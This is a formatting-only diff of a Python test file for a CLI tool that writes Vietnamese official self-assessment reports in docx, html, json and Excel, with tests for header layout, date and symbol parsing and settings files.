-    result = run_cli(["check", ROOT / "tests" / "data" / "v1-examples" / "so-y-te-nghe-an.yaml",
-                      ROOT / "examples" / "xa-hung-dong.yaml", "--format", "docx", "-o", target])
+    result = run_cli(
+        [
+            "check",
+            ROOT / "tests" / "data" / "v1-examples" / "so-y-te-nghe-an.yaml",
+            ROOT / "examples" / "xa-hung-dong.yaml",
+            "--format",
+            "docx",
+            "-o",
+            target,
+        ]
+    )
     assert result.exit_code in (0, 1), result.stderr
     paragraphs = [p.text for p in docx.Document(str(target)).paragraphs]
-    assert [p for p in paragraphs if p.startswith("PHẦN ")] == ["PHẦN 1. Sở Y tế tỉnh Nghệ An",
-                                                                "PHẦN 2. Ủy ban nhân dân xã Hưng Đông"]
+    assert [p for p in paragraphs if p.startswith("PHẦN ")] == [
+        "PHẦN 1. Sở Y tế tỉnh Nghệ An",
+        "PHẦN 2. Ủy ban nhân dân xã Hưng Đông",
+    ]
     general = [p for p in paragraphs if p.startswith("Cơ quan: ")]
     assert "phiên bản 1)" in general[0] and "phiên bản 3)" in general[1]
 
 
 # --- settings without YAML, and every write confirmed -------------------------------------------
-SO_OPTIONS = ["--issuing-parent", "UBND TỈNH HÀ TĨNH", "--issuing-body", "SỞ Y TẾ", "--symbol", "/BC-SYT",
-              "--signer-authority", "KT. GIÁM ĐỐC", "--signer-title", "PHÓ GIÁM ĐỐC", "--signer-name",
-              "Nguyễn Văn An", "--place", "Hà Tĩnh", "--report-date", "05/02/2027", "--superior-body",
-              "Sở Khoa học và Công nghệ tỉnh Hà Tĩnh", "--recipient", "Như trên", "--archive", "VT, KHTC",
-              "--report-number", "12", "--subject", "Kết quả tự đánh giá quý IV năm 2026"]
+SO_OPTIONS = [
+    "--issuing-parent",
+    "UBND TỈNH HÀ TĨNH",
+    "--issuing-body",
+    "SỞ Y TẾ",
+    "--symbol",
+    "/BC-SYT",
+    "--signer-authority",
+    "KT. GIÁM ĐỐC",
+    "--signer-title",
+    "PHÓ GIÁM ĐỐC",
+    "--signer-name",
+    "Nguyễn Văn An",
+    "--place",
+    "Hà Tĩnh",
+    "--report-date",
+    "05/02/2027",
+    "--superior-body",
+    "Sở Khoa học và Công nghệ tỉnh Hà Tĩnh",
+    "--recipient",
+    "Như trên",
+    "--archive",
+    "VT, KHTC",
+    "--report-number",
+    "12",
+    "--subject",
+    "Kết quả tự đánh giá quý IV năm 2026",
+]
 
 
 def test_a_so_s_header_and_signature_from_options_alone(tmp_path):
     from conftest import ROOT, run_cli
 
     target = tmp_path / "bao-cao.docx"
-    result = run_cli(["check", ROOT / "examples" / "so-y-te-nghe-an.yaml", "--as-of", AS_OF.isoformat(),
-                      "--format", "docx", "-o", target, *SO_OPTIONS])
+    result = run_cli(
+        [
+            "check",
+            ROOT / "examples" / "so-y-te-nghe-an.yaml",
+            "--as-of",
+            AS_OF.isoformat(),
+            "--format",
+            "docx",
+            "-o",
+            target,
+            *SO_OPTIONS,
+        ]
+    )
     assert result.exit_code in (0, 1), result.stderr
     doc = docx.Document(str(target))
     header = doc.tables[0]
@@ -683,35 +915,68 @@ def test_a_so_s_header_and_signature_from_options_alone(tmp_path):
     assert header.rows[1].cells[0].text == "Số: 12/BC-SYT"
     assert header.rows[1].cells[1].text == "Hà Tĩnh, ngày 05 tháng 02 năm 2027"  # Decree 30: 05, 02
     content = all_text(doc)
-    for expected in ("Kính gửi: Sở Khoa học và Công nghệ tỉnh Hà Tĩnh.", "KT. GIÁM ĐỐC", "PHÓ GIÁM ĐỐC",
-                     "Nguyễn Văn An", "- Như trên;", "- Lưu: VT, KHTC.", "Kết quả tự đánh giá quý IV năm 2026"):
+    for expected in (
+        "Kính gửi: Sở Khoa học và Công nghệ tỉnh Hà Tĩnh.",
+        "KT. GIÁM ĐỐC",
+        "PHÓ GIÁM ĐỐC",
+        "Nguyễn Văn An",
+        "- Như trên;",
+        "- Lưu: VT, KHTC.",
+        "Kết quả tự đánh giá quý IV năm 2026",
+    ):
         assert expected in content, expected
 
 
-@pytest.mark.parametrize(("given", "expected"), [("SYT", "SYT"), ("/BC-SYT", "SYT"), ("BC-SYT", "SYT"),
-                                                 (" /bc-SKHCN ", "SKHCN"), ("", None), ("/BC-", None)])
+@pytest.mark.parametrize(
+    ("given", "expected"),
+    [("SYT", "SYT"), ("/BC-SYT", "SYT"), ("BC-SYT", "SYT"), (" /bc-SKHCN ", "SKHCN"), ("", None), ("/BC-", None)],
+)
 def test_the_symbol_is_taken_however_the_officer_writes_it(given, expected):
     from fourlayer.reporting.official import symbol_of
 
     assert symbol_of(given) == expected
 
 
-@pytest.mark.parametrize(("value", "expected"), [("15/12/2026", date(2026, 12, 15)), ("2026-12-15", date(2026, 12, 15)),
-                                                 ("5/2/2027", date(2027, 2, 5)), ("31/9/2026", None), ("hôm nay", None)])
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("15/12/2026", date(2026, 12, 15)),
+        ("2026-12-15", date(2026, 12, 15)),
+        ("5/2/2027", date(2027, 2, 5)),
+        ("31/9/2026", None),
+        ("hôm nay", None),
+    ],
+)
 def test_report_date_is_read_as_officials_write_it(province, tmp_path, value, expected):
     from conftest import run_cli
 
     one = sorted(province.rglob("0*.yaml"))[0]
     target = tmp_path / "x.docx"
-    result = run_cli(["check", one, "--as-of", AS_OF.isoformat(), "--format", "docx", "-o", target,
-                      "--report-date", value, "--place", "Vinh"])
+    result = run_cli(
+        [
+            "check",
+            one,
+            "--as-of",
+            AS_OF.isoformat(),
+            "--format",
+            "docx",
+            "-o",
+            target,
+            "--report-date",
+            value,
+            "--place",
+            "Vinh",
+        ]
+    )
     if expected is None:
         assert result.exit_code == 2 and f'--report-date "{value}"' in result.stderr and not target.exists()
         assert "Traceback" not in result.stderr
         return
     assert result.exit_code in (0, 1), result.stderr
-    day, month = (f"{expected.day:02d}" if expected.day < 10 else str(expected.day),
-                  f"{expected.month:02d}" if expected.month < 3 else str(expected.month))
+    day, month = (
+        f"{expected.day:02d}" if expected.day < 10 else str(expected.day),
+        f"{expected.month:02d}" if expected.month < 3 else str(expected.month),
+    )
     assert f"Vinh, ngày {day} tháng {month} năm {expected.year}" in all_text(docx.Document(str(target)))
 
 
@@ -726,15 +991,35 @@ def test_report_settings_writes_a_commented_file_that_reads_back(tmp_path, name,
     written = target.read_text(encoding="utf-8")
     assert written.startswith("# ") and "30/2020/NĐ-CP" in written
     if lang == "vi":
-        for words in ("Cơ quan chủ quản", "Sở: \"UBND tỉnh Hà Tĩnh\"", "Xã: để trống", "KT. Giám đốc",
-                      "TM. Ủy ban nhân dân", "\"15/12/2026\""):
+        for words in (
+            "Cơ quan chủ quản",
+            'Sở: "UBND tỉnh Hà Tĩnh"',
+            "Xã: để trống",
+            "KT. Giám đốc",
+            "TM. Ủy ban nhân dân",
+            '"15/12/2026"',
+        ):
             assert words in written, words
     loaded = load_report_settings(str(target))
     assert loaded.findings == () and loaded.settings == ReportSettings(), "empty as written: every field a blank"
     fields = [line.split()[0].rstrip(":") for line in written.splitlines() if line and not line.startswith("#")]
-    assert fields == ["issuing_parent", "issuing_body", "symbol", "number", "place", "date", "superior_body",
-                      "subject", "signer_authority", "signer_title", "signer_name", "recipients", "archive",
-                      "handling", *YEARLY_FIELDS]
+    assert fields == [
+        "issuing_parent",
+        "issuing_body",
+        "symbol",
+        "number",
+        "place",
+        "date",
+        "superior_body",
+        "subject",
+        "signer_authority",
+        "signer_title",
+        "signer_name",
+        "recipients",
+        "archive",
+        "handling",
+        *YEARLY_FIELDS,
+    ]
     again = run_cli(["report-settings", "-o", target])
     assert again.exit_code == 2 and "--force" in again.stderr and target.read_text(encoding="utf-8") == written
 
@@ -745,14 +1030,32 @@ def test_a_filled_in_settings_file_makes_the_header(tmp_path):
     settings = tmp_path / "bao-cao.toml"
     assert run_cli(["report-settings", "-o", settings]).exit_code == 0
     text = settings.read_text(encoding="utf-8")
-    for key, value in (("issuing_body", "Ủy ban nhân dân xã Kỳ Anh"), ("symbol", "UBND"), ("place", "Kỳ Anh"),
-                       ("date", "15/12/2026"), ("signer_authority", "TM. Ủy ban nhân dân"), ("signer_title", "Chủ tịch"),
-                       ("signer_name", "Lê Văn Cường")):
+    for key, value in (
+        ("issuing_body", "Ủy ban nhân dân xã Kỳ Anh"),
+        ("symbol", "UBND"),
+        ("place", "Kỳ Anh"),
+        ("date", "15/12/2026"),
+        ("signer_authority", "TM. Ủy ban nhân dân"),
+        ("signer_title", "Chủ tịch"),
+        ("signer_name", "Lê Văn Cường"),
+    ):
         text = text.replace(f'{key} = ""', f'{key} = "{value}"')
     settings.write_text(text.replace("recipients = []", 'recipients = ["Như trên"]'), encoding="utf-8")
     target = tmp_path / "xa.docx"
-    result = run_cli(["check", ROOT / "examples" / "xa-hung-dong.yaml", "--as-of", AS_OF.isoformat(), "--format",
-                      "docx", "-o", target, "--report-settings", settings])
+    result = run_cli(
+        [
+            "check",
+            ROOT / "examples" / "xa-hung-dong.yaml",
+            "--as-of",
+            AS_OF.isoformat(),
+            "--format",
+            "docx",
+            "-o",
+            target,
+            "--report-settings",
+            settings,
+        ]
+    )
     assert result.exit_code in (0, 1), result.stderr
     doc = docx.Document(str(target))
     assert [p.text for p in doc.tables[0].rows[0].cells[0].paragraphs if p.text] == ["ỦY BAN NHÂN DÂN XÃ KỲ ANH"]
@@ -770,8 +1073,10 @@ def test_every_write_is_confirmed_on_stderr_and_stdout_stays_clean(province, tmp
     target = tmp_path / "out.json"
     if command == "history":
         store = tmp_path / "lich-su.sqlite"
-        assert run_cli(["audit", one, "--as-of", AS_OF.isoformat(), "--record", store, "--round", "Q4"]).exit_code \
-            in (0, 1)
+        assert run_cli(["audit", one, "--as-of", AS_OF.isoformat(), "--record", store, "--round", "Q4"]).exit_code in (
+            0,
+            1,
+        )
         args = ["history", store, "--format", "json"]
     else:
         args = [command, one, "--as-of", AS_OF.isoformat(), "--format", "json", "--fail-on", "partial"]
@@ -797,9 +1102,21 @@ def test_a_non_compliant_verdict_says_the_file_was_written(province, tmp_path):
     assert result.exit_code == 1 and target.exists()
     assert result.stderr.strip().splitlines()[-1] == (
         f"Đã ghi {target}. Mã thoát 1 là kết quả đánh giá (có kết luận chưa đạt theo --fail-on, hoặc tệp không "
-        "đánh giá được), không phải lỗi khi ghi tệp.")
-    quiet = run_cli(["check", sorted(province.rglob("0*.yaml"))[0], "--as-of", AS_OF.isoformat(), "--quiet",
-                     "--format", "json", "-o", tmp_path / "q.json"])
+        "đánh giá được), không phải lỗi khi ghi tệp."
+    )
+    quiet = run_cli(
+        [
+            "check",
+            sorted(province.rglob("0*.yaml"))[0],
+            "--as-of",
+            AS_OF.isoformat(),
+            "--quiet",
+            "--format",
+            "json",
+            "-o",
+            tmp_path / "q.json",
+        ]
+    )
     assert "Đã ghi" not in quiet.stderr
 
 
@@ -839,8 +1156,14 @@ def test_rules_under_the_issuing_body_and_the_subject_are_a_third_to_a_half_of_t
     assert words / 3 <= length <= words / 2
 
 
-@pytest.mark.parametrize("subject", ["Kết quả tự đánh giá việc triển khai mô hình bảo vệ 4 lớp của Sở Y tế tỉnh Hà Tĩnh",
-                                     "Báo cáo ngắn", "Một hai ba bốn năm sáu bảy tám chín mười " * 6])
+@pytest.mark.parametrize(
+    "subject",
+    [
+        "Kết quả tự đánh giá việc triển khai mô hình bảo vệ 4 lớp của Sở Y tế tỉnh Hà Tĩnh",
+        "Báo cáo ngắn",
+        "Một hai ba bốn năm sáu bảy tám chín mười " * 6,
+    ],
+)
 def test_a_long_subject_breaks_into_even_lines_that_fit(subject):
     from fourlayer.reporting.official import TEXT_WIDTH_MM, TITLE_PT
     from fourlayer.reporting.type_metrics import balanced_lines, width_mm
@@ -893,13 +1216,17 @@ def test_every_part_of_the_form_has_the_decree_s_size_and_style(audit_run, tmp_p
     assert style("PHÓ GIÁM ĐỐC", signature.paragraphs) == (13, True, False)
     assert style("Nguyễn Văn An", signature.paragraphs) == (13, True, False)
     body = [p for p in doc.paragraphs if p.text.startswith("Trên đây là báo cáo")]
-    assert body and body[0].alignment == 3 and body[0].paragraph_format.first_line_indent.mm == pytest.approx(10, abs=0.01)
+    assert (
+        body and body[0].alignment == 3 and body[0].paragraph_format.first_line_indent.mm == pytest.approx(10, abs=0.01)
+    )
     assert body[0].paragraph_format.keep_with_next, "the closing sentence is kept with the signature"
     assert doc.tables[-1].rows[0]._tr.trPr.xml.count("cantSplit") == 1
 
 
-@pytest.mark.parametrize(("given", "expected"), [("5", "05"), ("05", "05"), ("0", "0"), ("12", "12"), ("125", "125"),
-                                                 ("12a", "12a"), (" ", None), (None, None)])
+@pytest.mark.parametrize(
+    ("given", "expected"),
+    [("5", "05"), ("05", "05"), ("0", "0"), ("12", "12"), ("125", "125"), ("12a", "12a"), (" ", None), (None, None)],
+)
 def test_a_number_below_ten_has_a_leading_zero(given, expected):
     from fourlayer.reporting.official import number_of
 
@@ -920,8 +1247,10 @@ def test_the_plan_says_what_to_do_without_the_words_of_the_file(version, lang):
     loaded = load_checklist(None, version).checklist
     assert loaded is not None
     t = Translator(lang)
-    file_words = re.compile(r"\b[a-z]+_[a-z_]+\b|\"(implemented|partial|not_implemented|not_applicable)\"|"
-                            r"\b(status|evidence|note|ref|due):" + (r"|\bdue\b" if lang == "vi" else ""))
+    file_words = re.compile(
+        r"\b[a-z]+_[a-z_]+\b|\"(implemented|partial|not_implemented|not_applicable)\"|"
+        r"\b(status|evidence|note|ref|due):" + (r"|\bdue\b" if lang == "vi" else "")
+    )
     for control in loaded.controls:
         guidance = control.guidance.get(lang)
         said = action(guidance, t)
@@ -939,8 +1268,19 @@ def _report(tmp_path: Path, fmt: str, name: str, *extra: object) -> bytes:
     from conftest import ROOT, run_cli
 
     target = tmp_path / name
-    done = run_cli(["check", ROOT / "examples" / "so-y-te-nghe-an.yaml", "--as-of", "2026-12-07", "--format", fmt,
-                    "-o", target, *extra])
+    done = run_cli(
+        [
+            "check",
+            ROOT / "examples" / "so-y-te-nghe-an.yaml",
+            "--as-of",
+            "2026-12-07",
+            "--format",
+            fmt,
+            "-o",
+            target,
+            *extra,
+        ]
+    )
     assert done.exit_code in (0, 1), done.stderr
     return target.read_bytes()
 
@@ -975,19 +1315,22 @@ def test_the_handling_line_is_text_in_every_format(tmp_path):
         sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
         assert sheets
         for name in sheets:  # & is Excel's code mark: doubled, so it prints as itself
-            assert "<oddHeader>&amp;C&amp;\"-,Bold\"SỞ A &amp;&amp; B</oddHeader>" in archive.read(name).decode()
+            assert '<oddHeader>&amp;C&amp;"-,Bold"SỞ A &amp;&amp; B</oddHeader>' in archive.read(name).decode()
     letter = docx.Document(io.BytesIO(_report(tmp_path, "docx", "letter", "--handling", "Sở A & B")))
     section = letter.sections[0]
     for footer in (section.first_page_footer, section.footer):
         assert [p.text for p in footer.paragraphs] == ["SỞ A & B"]
 
 
-@pytest.mark.parametrize(("extra", "expected"), [
-    (["--format", "json", "--handling", "Mật"], "--handling"),
-    (["--format", "html", "--subject", "x"], "--report-settings"),
-    (["--format", "html", "--handling", "a" * 101], "100"),
-    (["--format", "docx", "--handling", "a\nb"], "100"),
-])
+@pytest.mark.parametrize(
+    ("extra", "expected"),
+    [
+        (["--format", "json", "--handling", "Mật"], "--handling"),
+        (["--format", "html", "--subject", "x"], "--report-settings"),
+        (["--format", "html", "--handling", "a" * 101], "100"),
+        (["--format", "docx", "--handling", "a\nb"], "100"),
+    ],
+)
 def test_the_handling_line_is_refused_where_it_cannot_go(tmp_path, extra, expected):
     from conftest import ROOT, run_cli
 
